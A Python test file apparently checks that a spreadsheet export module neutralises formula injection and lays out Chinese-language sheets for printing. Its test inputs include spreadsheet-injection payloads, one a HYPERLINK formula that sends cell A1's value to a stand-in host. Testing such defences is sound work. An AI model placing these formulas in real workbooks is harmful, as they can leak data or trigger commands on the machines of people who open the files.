"""Workbooks we hand out keep every clerk-typed value inert."""

from __future__ import annotations

import io
from decimal import Decimal

import openpyxl

from zhaoshang.safe_xlsx import Sheet, workbook_bytes


def test_formula_like_text_stays_text_and_numbers_stay_numbers():
    risky = ['=HYPERLINK("http://x.example/?"&A1,"点击")', "+1+1", "-2+3", "@SUM(A1)", "\tcmd"]
    data = workbook_bytes(
        [Sheet("表", ["项目名称", "到位资金（万元）"], [[text, Decimal("12.5")] for text in risky])]
    )
    sheet = openpyxl.load_workbook(io.BytesIO(data)).worksheets[0]
    for row, text in zip(sheet.iter_rows(min_row=2), risky, strict=True):
        name, amount = row
        assert name.data_type == "s" and name.value == "'" + text
        assert amount.value == 12.5


def test_chinese_text_gets_columns_wide_enough_and_the_sheet_prints_landscape():
    """A column is sized by display width (a Chinese character takes two): 统一社会信用代码无效 fits."""
    rule = "统一社会信用代码无效"
    data = workbook_bytes([Sheet("疑点", ["单位", "规则"], [["财政局", rule]])])
    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    assert sheet.column_dimensions["B"].width >= 2 * len(rule)
    assert sheet.page_setup.orientation == "landscape"
    assert sheet.print_title_rows == "$1:$1"  # the header on every printed page
